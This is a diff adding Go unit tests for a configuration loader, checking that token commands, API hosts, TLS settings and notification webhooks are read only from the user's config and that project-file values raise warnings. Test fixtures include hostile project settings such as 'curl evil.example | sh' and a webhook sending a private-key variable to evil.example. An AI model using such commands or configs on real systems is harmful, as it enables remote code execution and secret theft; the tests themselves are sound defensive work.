@@ -0,0 +1,282 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// setUserConfigDir points os.UserConfigDir at a temp dir
+func setUserConfigDir(t *testing.T) {
+	t.Helper()
+	dir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	t.Setenv("HOME", dir)
+	t.Setenv("AppData", dir)
+}
+
+func TestLoadMissingFiles(t *testing.T) {
+	setUserConfigDir(t)
+
+	cfg, err := Load(t.TempDir())
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.TokenCommand != "" || len(cfg.Warnings) != 0 {
+		t.Errorf("expected empty config, got %+v", cfg)
+	}
+}
+
+func TestLoadTokenCommandOnlyFromUserConfig(t *testing.T) {
+	setUserConfigDir(t)
+	userPath, err := UserPath()
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, userPath, "token_command: op read op://vault/github/token\n")
+
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), "token_command: curl evil.example | sh\n")
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.TokenCommand != "op read op://vault/github/token" {
+		t.Errorf("expected the user's token_command, got %q", cfg.TokenCommand)
+	}
+	if len(cfg.Warnings) != 1 {
+		t.Errorf("expected a warning about the project token_command, got %v", cfg.Warnings)
+	}
+}
+
+func TestLoadHosts(t *testing.T) {
+	setUserConfigDir(t)
+	userPath, err := UserPath()
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, userPath, `api_url: ghes.example.com
+hosts:
+  actions: https://api.github.com
+  myorg/tool: ghes2.example.com
+`)
+
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), `api_url: evil.example
+hosts:
+  actions: evil.example
+`)
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.APIURL != "ghes.example.com" {
+		t.Errorf("expected the user's api_url, got %q", cfg.APIURL)
+	}
+	if cfg.Hosts["actions"] != "https://api.github.com" || cfg.Hosts["myorg/tool"] != "ghes2.example.com" {
+		t.Errorf("expected the user's hosts, got %v", cfg.Hosts)
+	}
+	if len(cfg.Warnings) != 2 {
+		t.Errorf("expected warnings about api_url and hosts, got %v", cfg.Warnings)
+	}
+}
+
+func TestLoadTLSOnlyFromUserConfig(t *testing.T) {
+	setUserConfigDir(t)
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), "ca_cert: evil.pem\ninsecure: true\n")
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.CACert != "" || cfg.Insecure {
+		t.Errorf("expected project TLS settings to be ignored, got %+v", cfg)
+	}
+	if len(cfg.Warnings) != 2 {
+		t.Errorf("expected warnings about ca_cert and insecure, got %v", cfg.Warnings)
+	}
+}
+
+func TestLoadProjectSettings(t *testing.T) {
+	setUserConfigDir(t)
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), "releases: true\ninclude_prereleases: [docker, actions/checkout]\nexclude: ['.github/workflows/frozen-*.yml']\n")
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if !cfg.Releases || len(cfg.IncludePrereleases) != 2 || len(cfg.Exclude) != 1 || len(cfg.Warnings) != 0 {
+		t.Errorf("expected releases from the project config, got %+v", cfg)
+	}
+}
+
+func TestLoadTags(t *testing.T) {
+	setUserConfigDir(t)
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), `tags:
+  owner/mono/component-a:
+    strip_prefix: component-a/
+  actions:
+    pattern: '^v\d+\.\d+\.\d+$'
+`)
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Tags["owner/mono/component-a"].StripPrefix != "component-a/" ||
+		cfg.Tags["actions"].Pattern != `^v\d+\.\d+\.\d+$` {
+		t.Errorf("unexpected tag rules: %+v", cfg.Tags)
+	}
+}
+
+func TestLoadNotify(t *testing.T) {
+	setUserConfigDir(t)
+	userPath, err := UserPath()
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, userPath, `notify:
+  slack:
+    webhook_url: https://hooks.slack.com/services/T/B/X
+    threshold: 5
+  webhooks:
+    - url: https://example.com/hook
+      headers:
+        Authorization: Bearer ${AVER_HOOK_TOKEN}
+      template: '{"text": {{json .Project}}}'
+`)
+
+	cfg, err := Load(t.TempDir())
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	slack := cfg.Notify.Slack
+	if slack == nil || slack.WebhookURL != "https://hooks.slack.com/services/T/B/X" || slack.Threshold != 5 {
+		t.Errorf("unexpected slack config: %+v", slack)
+	}
+	webhooks := cfg.Notify.Webhooks
+	if len(webhooks) != 1 || webhooks[0].URL != "https://example.com/hook" ||
+		webhooks[0].Headers["Authorization"] != "Bearer ${AVER_HOOK_TOKEN}" || webhooks[0].Template != `{"text": {{json .Project}}}` {
+		t.Errorf("unexpected webhooks: %+v", webhooks)
+	}
+}
+
+func TestLoadNotifyOnlyFromUserConfig(t *testing.T) {
+	setUserConfigDir(t)
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), `notify:
+  webhooks:
+    - url: https://evil.example/collect
+      headers:
+        X-Key: ${AVER_APP_PRIVATE_KEY}
+`)
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if len(cfg.Notify.Webhooks) != 0 || cfg.Notify.Slack != nil {
+		t.Errorf("expected the project's notify to be ignored, got %+v", cfg.Notify)
+	}
+	if len(cfg.Warnings) != 1 {
+		t.Errorf("expected a warning about the project notify, got %v", cfg.Warnings)
+	}
+}
+
+func TestExpandEnv(t *testing.T) {
+	t.Setenv("AVER_HOOK_TOKEN", "secret")
+	t.Setenv("GITHUB_TOKEN", "ghp_private")
+
+	got := ExpandEnv("Bearer ${AVER_HOOK_TOKEN} $AVER_HOOK_TOKEN ${GITHUB_TOKEN}")
+	if want := "Bearer secret secret ${GITHUB_TOKEN}"; got != want {
+		t.Errorf("expected %q, got %q", want, got)
+	}
+}
+
+func TestParseDuration(t *testing.T) {
+	tests := []struct {
+		input    string
+		expected time.Duration
+		wantErr  bool
+	}{
+		{"7d", 7 * 24 * time.Hour, false},
+		{"1.5d", 36 * time.Hour, false},
+		{"2w", 14 * 24 * time.Hour, false},
+		{"12h", 12 * time.Hour, false},
+		{"0", 0, false},
+		{"-1d", 0, true},
+		{"soon", 0, true},
+		{"d", 0, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.input, func(t *testing.T) {
+			got, err := ParseDuration(tt.input)
+			if (err != nil) != tt.wantErr || got != tt.expected {
+				t.Errorf("expected %v (error %v), got %v, %v", tt.expected, tt.wantErr, got, err)
+			}
+		})
+	}
+}
+
+func TestLoadMinReleaseAge(t *testing.T) {
+	setUserConfigDir(t)
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), "min_release_age: 3d\n")
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if time.Duration(cfg.MinReleaseAge) != 72*time.Hour {
+		t.Errorf("expected 72h, got %v", time.Duration(cfg.MinReleaseAge))
+	}
+
+	writeFile(t, filepath.Join(root, ProjectFile), "min_release_age: soon\n")
+	if _, err := Load(root); err == nil {
+		t.Error("expected an error for an invalid duration")
+	}
+}
+
+func TestLoadAPIURLOnlyFromUserConfig(t *testing.T) {
+	setUserConfigDir(t)
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), "api_url: evil.example\n")
+
+	cfg, err := Load(root)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.APIURL != "" {
+		t.Errorf("expected the project's api_url to be ignored, got %q", cfg.APIURL)
+	}
+	if len(cfg.Warnings) != 1 {
+		t.Errorf("expected a warning about the project api_url, got %v", cfg.Warnings)
+	}
+}
+
+func TestLoadInvalid(t *testing.T) {
+	setUserConfigDir(t)
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, ProjectFile), "token_command: [unclosed\n")
+
+	if _, err := Load(root); err == nil {
+		t.Error("expected an error for invalid YAML")
+	}
+}